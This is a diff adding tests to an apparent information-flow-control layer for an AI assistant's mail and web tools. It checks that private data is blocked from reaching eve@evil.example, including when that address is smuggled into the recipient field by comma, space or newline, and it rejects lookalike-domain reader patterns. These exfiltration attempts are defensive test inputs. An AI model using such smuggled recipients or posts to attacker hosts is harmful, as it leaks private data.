@@ -124,6 +124,9 @@ def test_private_data_may_reach_only_a_destination_among_its_readers(h):
     assert notes.outcome["label"] == {"integrity": "trusted", "readers": [["*@corp.example"]]}
     assert h.call("assistant", "mail.send", {"to": "bob@corp.example", "body": "launch: 12 May"}).allowed
     flow_denied(h.call("assistant", "mail.send", {"to": "eve@evil.example", "body": "launch"}), "to", "notes.read")
+    for smuggled in ("eve@evil.example,bob@corp.example", "eve@evil.example bob@corp.example",
+                     "eve@evil.example\nbob@corp.example"):  # one string, two recipients to the mail tool
+        flow_denied(h.call("assistant", "mail.send", {"to": smuggled, "body": "launch"}), "to", "notes.read")
     d = h.call("assistant", "web.post", {"url": "https://evil.example/x", "body": "launch"})
     assert d.code == "FLOW_DENIED" and d.audit["flow"]["arg"] == "url"
 
@@ -385,3 +388,13 @@ def test_ifc_rules_that_say_nothing_or_name_no_parameter_are_policy_errors():
         check_policy_tools(p, {n: t.spec for n, t in load_tools(["flow_tools"]).items()})
     assert "ifc.args.recipient: tool 'mail.send' has no parameter 'recipient'" in info.value.reason
     assert "ifc.destination: tool 'mail.send' has no parameter 'too'" in info.value.reason
+
+
+def test_a_reader_pattern_that_would_admit_a_lookalike_domain_is_a_policy_error():
+    from runtime.errors import ConfigError
+    from runtime.policyfile import parse_policy
+
+    with pytest.raises(ConfigError, match=r"'\*corp.example' \(a pattern is"):
+        parse_policy({"agent": "a", "tools": {"mail.read": {"effect": "read", "output": {"readers": ["*corp.example"]}}}})
+    assert parse_policy({"agent": "a", "tools": {"mail.read": {"effect": "read", "output": {
+        "readers": ["*@corp.example", "*.corp.example", "bob@x.example"]}}}})
